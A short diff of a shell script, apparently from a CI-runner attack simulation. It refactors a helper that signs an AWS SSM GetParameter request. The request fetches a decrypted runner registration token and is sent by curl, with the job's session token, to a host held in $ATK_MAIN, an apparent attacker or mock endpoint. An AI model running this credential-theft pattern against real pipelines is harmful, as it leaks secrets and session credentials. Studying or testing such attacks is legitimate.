@@ -65,8 +65,9 @@ fi
 # whatever credentials the job has (none: a made-up key)
 printf '{"Name":"/runner-pool/acme/web/regtoken","WithDecryption":true}' >"$RUNNER_TEMP/b"
 d=$(date -u +%Y%m%dT%H%M%SZ)
-a=$(rp_authz "${AK:-AKIAJOBHASNOKEY00000}" "${SK:-nothing}" "$TK" us-east-1 ssm "$d" \
-	"${ATK_MAIN#http://}" application/x-amz-json-1.1 "$RUNNER_TEMP/b" AmazonSSM.GetParameter)
+rp_az "${AK:-AKIAJOBHASNOKEY00000}" "${SK:-nothing}" "$TK" us-east-1 ssm "$d" \
+	"${ATK_MAIN#http://}" application/x-amz-json-1.1 "$RUNNER_TEMP/b" AmazonSSM.GetParameter
+a=$_AZ
 out=$(curl -s -H 'Content-Type: application/x-amz-json-1.1' -H "X-Amz-Date: $d" \
 	-H "Authorization: $a" ${TK:+-H "X-Amz-Security-Token: $TK"} \
 	-H 'X-Amz-Target: AmazonSSM.GetParameter' --data-binary @"$RUNNER_TEMP/b" "$ATK_MAIN/")
